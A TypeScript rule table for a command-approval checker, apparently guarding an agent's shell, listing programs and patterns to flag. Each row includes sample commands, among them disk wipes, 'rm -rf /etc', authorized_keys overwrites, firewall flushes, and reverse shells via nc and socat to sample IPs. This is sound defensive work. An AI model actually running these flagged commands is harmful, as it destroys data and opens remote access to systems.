/**
 * The rule table: one row per program (or program + verb). Data, not code: the judges (judges.ts) read
 * the rows; every row carries commands it must flag and commands it must pass, and the test suite runs
 * them (test/approval_rules.test.ts). See README.md for how to add a row.
 */
import type { ClassKey } from "./classes.js";

/**
 * What a matched row does:
 * - path effects (delete, overwrite, move, permission): judged by where the path arguments point;
 * - the rest: the row's class when it matches.
 */
export type Effect = "delete" | "overwrite" | "move" | "permission" | "system" | "remote" | "exhaust" | "execute";

export interface Rule {
  /** Program names (basename as run). */
  program: string[];
  /** Leading non-option words that must follow (`kubectl delete`), any of each position. */
  verbs?: string[][];
  /** Matches only when one of these options (or `--opt=` prefixes) is present. */
  anyOption?: string[];
  /** Matches only when the arguments, joined by spaces, match. */
  args?: RegExp;
  /** Never matches when the arguments, joined by spaces, match. */
  unless?: RegExp;
  /** A last test over the non-option arguments and the options, where a regex cannot say it. */
  when?: (operands: string[], options: string[]) => boolean;
  effect: Effect;
  key: ClassKey;
  /** Path effects: which arguments are the paths (default: every non-option argument). */
  paths?: "operands" | "last" | "allButLast" | "afterVerbs";
  /** Options that make a delete recursive. */
  recursive?: string[];
  flag: string[];
  pass: string[];
}

const SHARED_BRANCH = /^(refs\/heads\/)?(main|master|trunk|develop|dev|prod|production|staging|release|stable|HEAD|gh-pages)([/-].*)?$/;

const R = ["-r", "-R", "--recursive", "-rf", "-fr", "-Rf", "-fR", "-rF"];

export const RULES: Rule[] = [
  // delete
  { program: ["rm"], effect: "delete", key: "recursive_delete", recursive: R, flag: ["rm -rf /etc", "rm -rf ~/", "rm -rf /tmp/../var/lib", "/bin/r? -rf /etc", "rm -rf \"$HOME\""], pass: ["rm -rf build", "rm -f a.txt", "rm /tmp/x.log"] },
  { program: ["rmdir", "unlink"], effect: "delete", key: "delete_outside_workdir", flag: ["unlink /etc/hosts"], pass: ["rmdir empty"] },
  { program: ["shred", "wipe", "srm"], effect: "delete", key: "shred", flag: ["shred -u ~/.bash_history", "shred /dev/sda"], pass: ["shred -u secret.txt"] },
  { program: ["find"], anyOption: ["-delete"], effect: "delete", key: "find_delete", paths: "operands", flag: ["find / -name '*.log' -delete", "find ~ -delete"], pass: ["find . -name '*.pyc' -delete"] },
  { program: ["truncate"], effect: "overwrite", key: "overwrite_outside_workdir", flag: ["truncate -s 0 /var/log/syslog"], pass: ["truncate -s 0 app.log"] },
  { program: ["git"], verbs: [["clean"]], args: /(^|\s)-[a-zA-Z]*f/, effect: "delete", key: "git_clean_force", paths: "afterVerbs", flag: ["cd / && git clean -fdx"], pass: ["git clean -fdx", "git clean -n"] },
  // overwrite / move / permission
  { program: ["cp", "install", "rsync"], effect: "overwrite", key: "overwrite_outside_workdir", paths: "last", unless: /(^|\s)\S+@?\S*:/, flag: ["cp evil /etc/passwd", "cp x ~/.bashrc", "cp key ~/.ssh/authorized_keys"], pass: ["cp a.txt b.txt", "cp /etc/hosts hosts.bak"] },
  { program: ["mv"], effect: "move", key: "move_outside_workdir", flag: ["mv /etc/passwd /tmp/p", "mv data.db /dev/null", "mv ~/.ssh /tmp/"], pass: ["mv a.txt b.txt", "mv /tmp/x.tgz ."] },
  { program: ["ln"], anyOption: ["-f", "-sf", "-fs", "--force", "-snf", "-sfn"], effect: "overwrite", key: "symlink_outside_workdir", paths: "last", flag: ["ln -sf /dev/null /etc/resolv.conf"], pass: ["ln -sf ../lib lib"] },
  { program: ["tee"], effect: "overwrite", key: "overwrite_outside_workdir", flag: ["echo x | tee /etc/hosts", "echo 'alias ls=rm' | tee -a ~/.bashrc"], pass: ["echo hi | tee out.log"] },
  { program: ["sed", "perl"], anyOption: ["-i", "--in-place", "-pi", "-i.bak", "-pie"], effect: "overwrite", key: "overwrite_outside_workdir", paths: "last", flag: ["sed -i 's/a/b/' /etc/hosts"], pass: ["sed -i 's/a/b/' src/x.py"] },
  { program: ["chmod", "chown", "chgrp", "chattr", "setfacl"], effect: "permission", key: "chmod_outside_workdir", paths: "allButLast", flag: ["chmod -R 777 /", "chown -R nobody /etc", "chmod 600 ~/.ssh/id_rsa"], pass: ["chmod +x run.sh", "chmod -R 755 build"] },
  { program: ["dd"], args: /(^|\s)of=\/dev\/(sd|nvme|hd|vd|xvd|mmcblk|disk|md|dm-|mapper|loop)/, effect: "system", key: "disk_write", flag: ["dd if=/dev/zero of=/dev/sda bs=1M"], pass: ["dd if=/dev/zero of=out.img bs=1M count=1"] },
  // system state
  { program: ["mkfs", "mkfs.ext4", "mkfs.ext3", "mkfs.xfs", "mkfs.vfat", "mkfs.btrfs", "mke2fs", "mkswap", "wipefs", "fdisk", "sfdisk", "parted", "sgdisk", "cfdisk"], args: /(^|\s)\/dev\//, unless: /(^|\s)(-l|--list|--dump|-d|print|-p|--print)(\s|$)/, effect: "system", key: "format_filesystem", flag: ["mkfs.ext4 /dev/sdb1", "wipefs -a /dev/sda"], pass: ["fdisk -l", "mkfs.ext4 -F disk.img", "parted /dev/sda print"] },
  { program: ["blkdiscard", "hdparm", "nvme"], args: /--security-erase|format|blkdiscard|^\/dev\//, effect: "system", key: "erase_device", flag: ["blkdiscard /dev/nvme0n1"], pass: ["nvme list"] },
  { program: ["reboot", "shutdown", "halt", "poweroff", "init", "telinit"], unless: /^(--help|-h)$/, effect: "system", key: "reboot_shutdown", flag: ["reboot", "shutdown -h now", "init 0"], pass: ["shutdown --help"] },
  { program: ["systemctl"], verbs: [["reboot", "poweroff", "halt", "kexec", "suspend", "hibernate", "isolate", "rescue", "emergency"]], effect: "system", key: "reboot_shutdown", flag: ["systemctl reboot"], pass: ["systemctl status nginx"] },
  { program: ["systemctl", "service"], args: /(^|\s)(stop|disable|mask|kill)(\s|$)/, effect: "system", key: "stop_service", flag: ["systemctl stop sshd", "service nginx stop", "systemctl disable --now firewalld"], pass: ["systemctl status sshd", "service nginx status"] },
  { program: ["kill"], args: /(^|\s)(-1|1)(\s|$)/, unless: /(^|\s)(-0|-s\s+0)(\s|$)/, effect: "system", key: "kill_all_processes", flag: ["kill -9 -1", "kill -9 1", "kill -KILL 1"], pass: ["kill -9 12345", "kill %1", "kill -0 1"] },
  { program: ["killall", "killall5"], effect: "system", key: "killall", unless: /^(-l|--list|-V)$|(^|\s)-0(\s|$)/, flag: ["killall -9 sshd", "killall5 -9"], pass: ["killall -l"] },
  { program: ["pkill"], args: /(^|\s)-(9|KILL|SIGKILL)\b|(^|\s)(-u|-U)\s+root|(^|\s)(sshd|systemd|init|dockerd|containerd|postgres|mysqld)(\s|$)/, effect: "system", key: "pkill_force", flag: ["pkill -9 python", "pkill -u root"], pass: ["pkill -f 'my_dev_server.py'", "pkill node"] },
  { program: ["mount", "umount", "swapoff", "swapon"], unless: /^(-l|--list|-a -l|--show|-s)?$|^--show/, effect: "system", key: "mount_change", flag: ["mount /dev/sdb1 /mnt", "umount -l /", "swapoff -a"], pass: ["mount"] },
  { program: ["losetup"], unless: /^(-l|--list|-a|--all|--show|-j\s+\S+)?$/, effect: "system", key: "mount_change", flag: ["losetup -d /dev/loop0"], pass: ["losetup -a"] },
  { program: ["iptables", "ip6tables", "nft", "ufw", "firewall-cmd"], args: /(^|\s)(-F|--flush|flush|disable|reset|-X|--delete-chain|-P\s+\w+\s+ACCEPT|--panic)(\s|$)/, effect: "system", key: "firewall_flush", flag: ["iptables -F", "ufw disable", "nft flush ruleset"], pass: ["iptables -L -n", "ufw status"] },
  { program: ["iptables", "ip6tables", "nft", "ufw", "firewall-cmd"], args: /(^|\s)(-A|-I|-D|--append|--insert|allow|deny|add|delete|--add-port|--remove-port)(\s|$)/, effect: "system", key: "firewall_change", flag: ["ufw allow 22", "iptables -A INPUT -j DROP"], pass: ["ufw status verbose"] },
  { program: ["ip", "ifconfig", "route", "nmcli", "brctl"], args: /(^|\s)(down|del|delete|flush|add|set|change|replace)(\s|$)/, effect: "system", key: "network_change", flag: ["ip link set eth0 down", "ifconfig eth0 down", "ip route del default"], pass: ["ip addr show", "ifconfig -a"] },
  { program: ["useradd", "userdel", "usermod", "groupadd", "groupdel", "passwd", "chpasswd", "adduser", "deluser", "addgroup", "delgroup", "gpasswd", "vipw"], unless: /^(--help|-h|-S|--status|-D)$/, effect: "system", key: "user_change", flag: ["userdel -r alice", "passwd -d root", "usermod -aG sudo bob"], pass: ["passwd --help"] },
  { program: ["crontab"], args: /(^|\s)-r(\s|$)/, effect: "system", key: "crontab_remove", flag: ["crontab -r"], pass: ["crontab -l"] },
  { program: ["crontab"], args: /^(?!.*(^|\s)-[lr](\s|$)).+/, effect: "system", key: "crontab_replace", flag: ["crontab jobs.txt", "crontab -"], pass: ["crontab -l"] },
  { program: ["sysctl"], args: /(^|\s)(-w|-p|--write|--load|--system)(\s|$)|=/, effect: "system", key: "kernel_change", flag: ["sysctl -w kernel.randomize_va_space=0"], pass: ["sysctl -a", "sysctl net.ipv4.ip_forward"] },
  { program: ["modprobe", "insmod", "rmmod", "kexec"], unless: /^(-n|--dry-run|--show-depends|-c)(\s|$)/, effect: "system", key: "kernel_change", flag: ["rmmod e1000", "modprobe -r nvme"], pass: ["modprobe -n dummy"] },
  { program: ["journalctl"], args: /--vacuum|--rotate|--flush/, effect: "system", key: "log_wipe", flag: ["journalctl --vacuum-time=1s"], pass: ["journalctl -u nginx -n 50"] },
  { program: ["apt", "apt-get", "aptitude", "dnf", "yum", "zypper", "pacman", "apk", "snap", "dpkg", "rpm"], args: /(^|\s)(remove|purge|autoremove|erase|del|-R[a-z]*|-r|-P|-e|--purge|--remove|--erase)(\s|$)/, effect: "system", key: "package_remove", flag: ["apt-get remove -y openssh-server", "yum erase -y kernel", "pacman -Rns systemd", "dpkg --purge libc6"], pass: ["apt-get install -y jq", "rpm -qa"] },
  { program: ["update-grub", "grub-install", "grub2-mkconfig", "efibootmgr", "bootctl"], unless: /^(-v|--verbose)?$/, effect: "system", key: "boot_config", flag: ["grub-install /dev/sda", "efibootmgr -b 0001 -B"], pass: [] },
  { program: ["setenforce", "aa-disable", "aa-complain", "setsebool"], effect: "system", key: "security_change", flag: ["setenforce 0"], pass: [] },
  { program: ["at", "batch"], unless: /^-l$|^-q/, effect: "system", key: "schedule_job", flag: ["at now + 1 minute"], pass: ["at -l"] },
  { program: ["ssh-keygen"], args: /(^|\s)-f\s+~?\/?\S*\.ssh\/(id_|authorized)/, effect: "overwrite", key: "credential_write", flag: ["ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N '' -q <<< y"], pass: ["ssh-keygen -t ed25519 -f ./deploy_key -N ''"] },
  // remote and shared state
  { program: ["git"], verbs: [["push"]], args: /(^|\s)(--mirror|--delete|-d|--prune)(\s|$|=)|(^|\s):\S+/, effect: "remote", key: "git_force_push", flag: ["git push origin :main", "git push --mirror backup"], pass: ["git push origin feature/x"] },
  { program: ["git"], verbs: [["push"]], args: /(^|\s)(-f|--force|--force-with-lease|--force-if-includes)(\s|$|=)|(^|\s)\+\S+/, when: (ops) => ops.length < 3 || ops.slice(2).some((r) => SHARED_BRANCH.test(r.replace(/^\+/, "").replace(/^.*:/, ""))), effect: "remote", key: "git_force_push", flag: ["git push -f origin main", "git push --force", "git push origin +main"], pass: ["git push --force origin feature/retry-logic", "git push -u origin my-branch"] },
  { program: ["git"], verbs: [["reset"]], args: /--hard/, unless: /--hard\s+(origin|upstream)\/(?!(main|master)(\s|$))\S+/, effect: "remote", key: "git_reset_hard", flag: ["git reset --hard HEAD~3"], pass: ["git reset HEAD file.txt", "git reset --hard origin/feature/login-form"] },
  { program: ["git"], verbs: [["filter-branch", "filter-repo", "replace"]], unless: /--analyze/, effect: "remote", key: "git_history_rewrite", flag: ["git filter-branch --tree-filter 'rm -f x' HEAD"], pass: [] },
  { program: ["git"], verbs: [["branch"]], args: /(^|\s)-D(\s|$)/, when: (ops) => ops.slice(1).some((b) => SHARED_BRANCH.test(b)), effect: "remote", key: "git_history_rewrite", flag: ["git branch -D main"], pass: ["git branch -d merged-feature", "git branch -D spike/old-experiment"] },
  { program: ["git"], verbs: [["checkout", "restore"]], args: /(^|\s)(\.|--\s+\.|-f|--force)(\s|$)/, effect: "remote", key: "git_reset_hard", flag: ["git checkout -- ."], pass: ["git checkout main"] },
  { program: ["git"], verbs: [["stash"]], args: /(^|\s)(clear|drop)(\s|$)/, effect: "remote", key: "git_reset_hard", flag: ["git stash clear"], pass: ["git stash list"] },
  { program: ["terraform", "tofu", "terragrunt", "pulumi", "cdk", "serverless", "sls"], args: /(^|\s)(destroy|-destroy|down|remove)(\s|$)/, unless: /(^|\s)(plan|preview)(\s|$)/, effect: "remote", key: "infra_teardown", flag: ["terraform destroy -auto-approve", "pulumi destroy --yes"], pass: ["terraform plan"] },
  { program: ["terraform", "tofu", "pulumi"], args: /(^|\s)(apply|up)(\s|$).*(-auto-approve|--yes|-y)|(-auto-approve|--yes|-y).*(^|\s)(apply|up)(\s|$)/, effect: "remote", key: "infra_apply", flag: ["terraform apply -auto-approve"], pass: ["terraform validate"] },
  { program: ["kubectl", "oc"], verbs: [["delete"]], args: /(^|\s)(--all|-A|--all-namespaces|ns|namespaces?|nodes?|no|pv|pvc|persistentvolumes?|persistentvolumeclaims?|crds?|customresourcedefinitions?|-l|--selector|clusterroles?|clusterrolebindings?)(\s|$|=|\/)|(^|\s)(ns|namespace|node|pv|pvc|crd)\//, effect: "remote", key: "kubectl_mass_delete", flag: ["kubectl delete ns production", "kubectl delete pods --all -A"], pass: ["kubectl get pods", "kubectl delete pod api-7d9f -n dev"] },
  { program: ["kubectl", "oc"], verbs: [["drain", "cordon", "scale"]], args: /drain|cordon|--replicas[= ]0/, effect: "remote", key: "cluster_teardown", flag: ["kubectl drain node-1 --force", "kubectl scale deploy/api --replicas=0"], pass: ["kubectl scale deploy/api --replicas=3"] },
  { program: ["helm"], verbs: [["uninstall", "delete", "del"]], effect: "remote", key: "cluster_teardown", flag: ["helm uninstall prod-db"], pass: ["helm list"] },
  { program: ["kind", "minikube", "k3d", "eksctl", "gcloud", "az", "doctl"], args: /(^|\s)(delete|destroy|remove|rm)(\s|$)/, effect: "remote", key: "cluster_teardown", flag: ["eksctl delete cluster prod", "gcloud compute instances delete vm-1", "az group delete -n rg"], pass: ["gcloud config list"] },
  { program: ["aws"], args: /(^|\s)(rb|delete-\S+|terminate-instances|deregister-\S+|remove-\S+)(\s|$)|(^|\s)rm\s.*(--recursive|s3:\/\/[^/\s]+\/?(\s|$))/, effect: "remote", key: "cloud_storage_delete", flag: ["aws s3 rm s3://bucket --recursive", "aws ec2 terminate-instances --instance-ids i-1", "aws s3 rb s3://b --force"], pass: ["aws s3 ls", "aws s3 cp s3://b/x .", "aws s3 rm s3://bucket/reports/old.csv"] },
  { program: ["gsutil", "gcloud", "rclone", "s3cmd", "mc", "azcopy"], args: /(^|\s)(rb|purge)(\s|$)|(^|\s)(rm|delete|del)\s.*(-r|--recursive|-a|\*|:\/\/[^/\s]+\/?(\s|$))|(^|\s)(sync|rsync)\s.*(-d|--delete)/, effect: "remote", key: "cloud_storage_delete", flag: ["gsutil -m rm -r gs://bucket", "rclone purge remote:bucket", "s3cmd del --recursive s3://b"], pass: ["gsutil ls gs://b", "gsutil rm gs://bucket/tmp/file.txt"] },
  { program: ["docker", "podman", "nerdctl"], args: /(^|\s)(rm|rmi|kill)(\s|$).*(\$\(|-q)|system prune.*(-a|--all|--volumes)|volume prune|(^|\s)(-a|--all)(\s|$).*prune/, effect: "remote", key: "container_mass_delete", flag: ["docker system prune -af", "docker rm -f $(docker ps -aq)", "docker volume prune -f"], pass: ["docker ps -a", "docker rm my-test-container", "docker system prune -f"] },
  { program: ["redis-cli"], args: /\b(flushall|flushdb)\b/i, effect: "remote", key: "cache_flush", flag: ["redis-cli FLUSHALL"], pass: ["redis-cli ping"] },
  { program: ["vault", "consul", "etcdctl"], args: /(^|\s)(delete|del|destroy|rm|kv delete)(\s|$)/, effect: "remote", key: "infra_teardown", flag: ["etcdctl del --prefix /"], pass: ["vault status"] },
  { program: ["zfs", "zpool", "btrfs"], args: /(^|\s)(destroy|delete|remove)(\s|$)/, effect: "remote", key: "volume_destroy", flag: ["zfs destroy -r tank/data", "zpool destroy tank"], pass: ["zfs list", "zfs snapshot tank/data@today"] },
  { program: ["lvremove", "vgremove", "pvremove"], effect: "remote", key: "volume_destroy", flag: ["lvremove -f vg0/data"], pass: [] },
  { program: ["visudo"], unless: /(^|\s)-[a-z]*c/, effect: "system", key: "privilege_grant", flag: ["visudo -f /etc/sudoers.d/x"], pass: ["visudo -c"] },
  { program: ["dropdb", "dropuser"], unless: /^(--help|-V)$/, effect: "remote", key: "sql_drop", flag: ["dropdb production"], pass: ["dropdb --help"] },
  { program: ["mysqladmin"], args: /(^|\s)drop(\s|$)/, effect: "remote", key: "sql_drop", flag: ["mysqladmin -f drop shop"], pass: ["mysqladmin status"] },
  { program: ["openstack", "nova", "incus", "lxc", "multipass", "virsh", "vagrant", "heroku", "fly", "flyctl", "vercel", "netlify", "doctl", "linode-cli", "hcloud", "exoscale", "scw"], args: /(^|\s)(delete|destroy|undefine|purge|remove|rm|apps:destroy)(\s|$)/, effect: "remote", key: "infra_teardown", flag: ["openstack stack delete --yes prod", "virsh undefine prod-vm --remove-all-storage", "vagrant destroy -f"], pass: ["openstack server list"] },
  { program: ["tar", "bsdtar"], args: /(^|\s)(-C|--directory)[= ]?\/(etc|usr|bin|sbin|lib|lib64|boot|root|var|opt)(\/|\s|$)|(^|\s)-?[a-zA-Z]*x[a-zA-Z]*P[a-zA-Z]*(\s|$)|(^|\s)-?[a-zA-Z]*P[a-zA-Z]*x[a-zA-Z]*(\s|$)/, unless: /(^|\s)-[a-zA-Z]*[ct][a-zA-Z]*(\s|$)/, effect: "system", key: "system_config_write", flag: ["tar -xzf backdoor.tgz -C /etc", "tar xPf rootfs.tar"], pass: ["tar -xzf pkg.tgz -C ./vendor", "tar -tzf x.tgz"] },
  { program: ["unzip"], args: /(^|\s)-d\s*\/(etc|usr|bin|sbin|lib|lib64|boot|root|var|opt)(\/|\s|$)/, effect: "system", key: "system_config_write", flag: ["unzip -o tools.zip -d /usr/bin"], pass: ["unzip -o tools.zip -d ./tools"] },
  { program: ["ssh"], args: /(^|\s)-[a-zA-Z]*[RD][a-zA-Z]*\s*(0\.0\.0\.0|\*)?:?\d+/, effect: "execute", key: "remote_access", flag: ["ssh -N -R 0.0.0.0:8022:127.0.0.1:22 relay@203.0.113.50"], pass: ["ssh -L 5432:localhost:5432 db-bastion"] },
  { program: ["tmate", "sshx", "upterm"], unless: /^(-V|--version|--help)$/, effect: "execute", key: "remote_access", flag: ["tmate -F"], pass: [] },
  { program: ["setcap"], effect: "system", key: "privilege_grant", flag: ["setcap cap_sys_admin+eip /usr/local/bin/helper"], pass: [] },
  // fetched or computed code
  { program: ["nc", "ncat", "netcat", "socat", "telnet"], args: /(^|\s)-[a-zA-Z]*[ec][a-zA-Z]*(\s|$)|--sh-exec|--exec|exec:|system:|\/bin\/(ba)?sh/, effect: "execute", key: "remote_access", flag: ["nc -e /bin/sh 10.0.0.1 4444", "socat tcp:1.2.3.4:80 exec:/bin/bash"], pass: ["nc -z localhost 5432"] },
  { program: ["ngrok", "cloudflared", "frpc", "chisel", "bore"], unless: /^(version|--version|-v|help|tunnel list|--help)\b/, effect: "execute", key: "remote_access", flag: ["ngrok tcp 22"], pass: [] },
];
